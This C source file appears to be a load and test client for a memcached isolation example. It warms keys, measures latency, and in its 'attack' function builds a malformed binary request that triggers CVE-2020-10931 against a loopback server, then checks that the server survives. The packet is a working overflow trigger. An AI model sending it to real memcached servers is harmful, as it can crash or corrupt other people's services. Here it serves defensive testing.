/*
 * mcload.c - a small memcached client for the SDRaD-C++ memcached example:
 * warms and verifies a key set, generates a get/set load with latency
 * percentiles, and sends the CVE-2020-10931 request.  Loopback only, ASCII
 * protocol for the load, binary protocol for the attack.
 *
 *   mcload warm   <port> <keys> [value-bytes]     set every key
 *   mcload verify <port> <keys> [value-bytes]     get every key, check value
 *   mcload load   <port> <conns> <seconds> <keys> [value-bytes]
 *                 closed loop, one request in flight per connection, 90 %
 *                 get / 10 % set over the warmed keys; every answer is
 *                 checked (a value is a function of its key, so any other
 *                 answer is wrong).  Prints one line:
 *                 "LOAD ops=N ops_per_s=X p50_us=A p99_us=B errors=E"
 *   mcload selftest <memcached> [file ...]
 *                 for the PKU lane's guest (no shell there): brings up the
 *                 loopback interface, starts <memcached> on port 11311,
 *                 warms 500 keys, sends the attack three times while two
 *                 load connections run, then checks that memcached is alive,
 *                 that the load saw only right answers and that the keys are
 *                 intact.  The files are only passed so that the lane copies
 *                 them into the guest (memcached's shared libraries).
 *                 Prints "SELFTEST PASS" or "SELFTEST FAIL: <why>".
 *   mcload attack <port>
 *                 sends a binary request whose header claims 255 bytes of
 *                 extras (BIN_MAX_EXTLEN is 20) and waits for the answer.
 *                 Prints "ATTACK closed_after_us=T" when the server closed
 *                 the connection, "ATTACK answered" if it answered, or
 *                 "ATTACK no-answer" after 5 s.
 *
 * Exit status: 0 when every answer was right, 1 otherwise, 2 on usage or
 * connection errors.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <net/if.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/wait.h>
#include <poll.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int port;
static size_t value_bytes = 32;

static double now_us(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec * 1e6 + ts.tv_nsec / 1e3;
}

static int connect_server(void) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (fd < 0 || connect(fd, (struct sockaddr *)&a, sizeof a) != 0) {
    fprintf(stderr, "mcload: cannot connect to 127.0.0.1:%d: %s\n", port, strerror(errno));
    exit(2);
  }
  int one = 1;
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
  return fd;
}

static int send_all(int fd, const char *p, size_t n) {
  while (n > 0) {
    ssize_t w = send(fd, p, n, MSG_NOSIGNAL);
    if (w <= 0)
      return -1;
    p += w;
    n -= (size_t)w;
  }
  return 0;
}

/* Reads until the buffer ends with `tail` (an ASCII answer's terminator). */
static ssize_t recv_until(int fd, char *buf, size_t cap, const char *tail) {
  size_t n = 0, tl = strlen(tail);
  while (n < cap - 1) {
    ssize_t r = recv(fd, buf + n, cap - 1 - n, 0);
    if (r <= 0)
      return -1;
    n += (size_t)r;
    buf[n] = 0;
    if (n >= tl && memcmp(buf + n - tl, tail, tl) == 0)
      return (ssize_t)n;
  }
  return -1;
}

static void value_of(unsigned key, char *v) {
  for (size_t i = 0; i < value_bytes; i++)
    v[i] = (char)('a' + (key * 7 + i) % 26);
  v[value_bytes] = 0;
}

static int do_set(int fd, unsigned key, char *buf, size_t cap) {
  char v[4096];
  value_of(key, v);
  int n = snprintf(buf, cap, "set key:%u 0 0 %zu\r\n%s\r\n", key, value_bytes, v);
  if (send_all(fd, buf, (size_t)n) != 0 || recv_until(fd, buf, cap, "\r\n") < 0)
    return -1;
  return strcmp(buf, "STORED\r\n") == 0 ? 0 : 1;
}

/* 0: right value, 1: wrong answer or miss, -1: connection lost. */
static int do_get(int fd, unsigned key, char *buf, size_t cap) {
  char v[4096], want[4200];
  int n = snprintf(buf, cap, "get key:%u\r\n", key);
  if (send_all(fd, buf, (size_t)n) != 0 || recv_until(fd, buf, cap, "END\r\n") < 0)
    return -1;
  value_of(key, v);
  snprintf(want, sizeof want, "VALUE key:%u 0 %zu\r\n%s\r\nEND\r\n", key, value_bytes, v);
  return strcmp(buf, want) == 0 ? 0 : 1;
}

static int warm_or_verify(unsigned keys, int verify) {
  int fd = connect_server(), bad = 0;
  char buf[8192];
  for (unsigned k = 0; k < keys; k++) {
    int r = verify ? do_get(fd, k, buf, sizeof buf) : do_set(fd, k, buf, sizeof buf);
    if (r < 0) {
      fprintf(stderr, "mcload: connection lost at key %u\n", k);
      return 1;
    }
    bad += r;
  }
  close(fd);
  printf("%s keys=%u wrong=%d\n", verify ? "VERIFY" : "WARM", keys, bad);
  return bad ? 1 : 0;
}

struct worker {
  pthread_t t;
  unsigned id, keys;
  double seconds;
  float *lat; /* microseconds, one per request */
  size_t n, cap;
  long errors;
};

static void *worker_run(void *arg) {
  struct worker *w = arg;
  int fd = connect_server();
  char buf[8192];
  uint64_t rng = 0x9e3779b97f4a7c15ull * (w->id + 1);
  double end = now_us() + w->seconds * 1e6;
  while (now_us() < end) {
    rng ^= rng << 13, rng ^= rng >> 7, rng ^= rng << 17;
    unsigned key = (unsigned)(rng >> 20) % w->keys;
    int set = (rng & 1023) < 102; /* 10 % sets */
    double t0 = now_us();
    int r = set ? do_set(fd, key, buf, sizeof buf) : do_get(fd, key, buf, sizeof buf);
    double t1 = now_us();
    if (r != 0) {
      w->errors++;
      if (r < 0) {
        fprintf(stderr, "mcload: connection %u lost\n", w->id);
        break;
      }
      continue;
    }
    if (w->n == w->cap) {
      w->cap = w->cap ? w->cap * 2 : 1 << 16;
      w->lat = realloc(w->lat, w->cap * sizeof *w->lat);
    }
    w->lat[w->n++] = (float)(t1 - t0);
  }
  close(fd);
  return NULL;
}

static int cmp_float(const void *a, const void *b) {
  float x = *(const float *)a, y = *(const float *)b;
  return (x > y) - (x < y);
}

static int load(unsigned conns, double seconds, unsigned keys) {
  struct worker *w = calloc(conns, sizeof *w);
  double t0 = now_us();
  for (unsigned i = 0; i < conns; i++) {
    w[i] = (struct worker){.id = i, .keys = keys, .seconds = seconds};
    pthread_create(&w[i].t, NULL, worker_run, &w[i]);
  }
  size_t total = 0;
  long errors = 0;
  for (unsigned i = 0; i < conns; i++) {
    pthread_join(w[i].t, NULL);
    total += w[i].n;
    errors += w[i].errors;
  }
  double elapsed = (now_us() - t0) / 1e6;
  float *all = malloc((total ? total : 1) * sizeof *all);
  size_t k = 0;
  for (unsigned i = 0; i < conns; i++) {
    memcpy(all + k, w[i].lat, w[i].n * sizeof *all);
    k += w[i].n;
  }
  qsort(all, total, sizeof *all, cmp_float);
  printf("LOAD ops=%zu ops_per_s=%.0f p50_us=%.1f p99_us=%.1f errors=%ld\n", total,
         total / elapsed, total ? all[total / 2] : 0.0, total ? all[total * 99 / 100] : 0.0,
         errors);
  return errors ? 1 : 0;
}

static int attack(void) {
  int fd = connect_server();
  unsigned char pkt[24 + 255];
  memset(pkt, 'A', sizeof pkt);
  pkt[0] = 0x80;              /* magic: request */
  pkt[1] = 0x01;              /* opcode: SET */
  pkt[2] = 0, pkt[3] = 0;     /* key length 0 */
  pkt[4] = 255;               /* extras length: BIN_MAX_EXTLEN is 20 */
  pkt[5] = 0;                 /* data type */
  pkt[6] = 0, pkt[7] = 0;     /* vbucket */
  uint32_t body = htonl(255); /* body length = extras */
  memcpy(pkt + 8, &body, 4);
  double t0 = now_us();
  if (send_all(fd, (const char *)pkt, sizeof pkt) != 0) {
    printf("ATTACK closed_after_us=%.0f (send failed)\n", now_us() - t0);
    return 0;
  }
  struct pollfd p = {.fd = fd, .events = POLLIN};
  if (poll(&p, 1, 5000) <= 0) {
    printf("ATTACK no-answer\n");
    return 1;
  }
  char buf[512];
  ssize_t r = recv(fd, buf, sizeof buf, 0);
  if (r <= 0)
    printf("ATTACK closed_after_us=%.0f\n", now_us() - t0);
  else
    printf("ATTACK answered (%zd bytes, first byte 0x%02x)\n", r, (unsigned char)buf[0]);
  close(fd);
  return 0;
}

struct load_args {
  unsigned conns, keys;
  double seconds;
  int rc;
};

static void *load_thread(void *arg) {
  struct load_args *a = arg;
  a->rc = load(a->conns, a->seconds, a->keys);
  return NULL;
}

static int try_connect(void) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int ok = fd >= 0 && connect(fd, (struct sockaddr *)&a, sizeof a) == 0;
  if (fd >= 0)
    close(fd);
  return ok;
}

static int selftest_fail(pid_t pid, const char *why) {
  printf("SELFTEST FAIL: %s\n", why);
  if (pid > 0)
    kill(pid, SIGKILL);
  return 1;
}

static int selftest(const char *memcached) {
  /* The guest's loopback interface starts down. */
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  struct ifreq ifr = {0};
  strcpy(ifr.ifr_name, "lo");
  if (s >= 0 && ioctl(s, SIOCGIFFLAGS, &ifr) == 0 && !(ifr.ifr_flags & IFF_UP)) {
    ifr.ifr_flags |= IFF_UP | IFF_RUNNING;
    if (ioctl(s, SIOCSIFFLAGS, &ifr) != 0)
      perror("mcload: bringing up lo");
  }
  if (s >= 0)
    close(s);
  /* memcached run as root wants -u root, which it looks up in /etc/passwd;
   * the guest's initramfs has none. */
  if (geteuid() == 0 && access("/etc/passwd", F_OK) != 0) {
    mkdir("/etc", 0755);
    FILE *f = fopen("/etc/passwd", "w");
    if (f) {
      fputs("root:x:0:0:root:/:/bin/sh\n", f);
      fclose(f);
    }
  }
  port = 11311;
  pid_t pid = fork();
  if (pid == 0) {
    execl(memcached, memcached, "-l", "127.0.0.1", "-p", "11311", "-U", "0", "-t", "2", "-m", "64",
          "-u", "root", (char *)NULL);
    perror("mcload: exec memcached");
    _exit(127);
  }
  int up = 0;
  for (int i = 0; i < 600 && !up; i++) {
    if (waitpid(pid, NULL, WNOHANG) == pid)
      return selftest_fail(-1, "memcached exited at start");
    up = try_connect();
    if (!up)
      usleep(100000);
  }
  if (!up)
    return selftest_fail(pid, "memcached did not listen within 60 s");
  if (warm_or_verify(500, 0) != 0)
    return selftest_fail(pid, "warming failed");
  struct load_args la = {.conns = 2, .keys = 500, .seconds = 6};
  pthread_t lt;
  pthread_create(&lt, NULL, load_thread, &la);
  for (int i = 0; i < 3; i++) {
    sleep(1);
    if (attack() != 0)
      return selftest_fail(pid, "the attacking connection got no answer and was not closed");
  }
  pthread_join(lt, NULL);
  if (waitpid(pid, NULL, WNOHANG) == pid)
    return selftest_fail(-1, "memcached died");
  if (la.rc != 0)
    return selftest_fail(pid, "a load connection got a wrong answer or lost its connection");
  if (warm_or_verify(500, 1) != 0)
    return selftest_fail(pid, "keys written before the attacks were lost or changed");
  kill(pid, SIGTERM);
  waitpid(pid, NULL, 0);
  printf("SELFTEST PASS\n");
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc >= 3 && !strcmp(argv[1], "selftest"))
    return selftest(argv[2]);
  if (argc < 3)
    goto usage;
  port = atoi(argv[2]);
  if (!strcmp(argv[1], "warm") || !strcmp(argv[1], "verify")) {
    if (argc < 4)
      goto usage;
    if (argc > 4)
      value_bytes = strtoul(argv[4], NULL, 10);
    if (value_bytes < 1 || value_bytes > 4000)
      goto usage;
    return warm_or_verify((unsigned)strtoul(argv[3], NULL, 10), argv[1][0] == 'v');
  }
  if (!strcmp(argv[1], "load")) {
    if (argc < 6)
      goto usage;
    if (argc > 6)
      value_bytes = strtoul(argv[6], NULL, 10);
    if (value_bytes < 1 || value_bytes > 4000)
      goto usage;
    return load((unsigned)atoi(argv[3]), atof(argv[4]), (unsigned)strtoul(argv[5], NULL, 10));
  }
  if (!strcmp(argv[1], "attack"))
    return attack();
usage:
  fprintf(stderr, "usage: mcload warm|verify <port> <keys> [value-bytes]\n"
                  "       mcload load <port> <conns> <seconds> <keys> [value-bytes]\n"
                  "       mcload attack <port>\n"
                  "       mcload selftest <memcached> [file ...]\n");
  return 2;
}
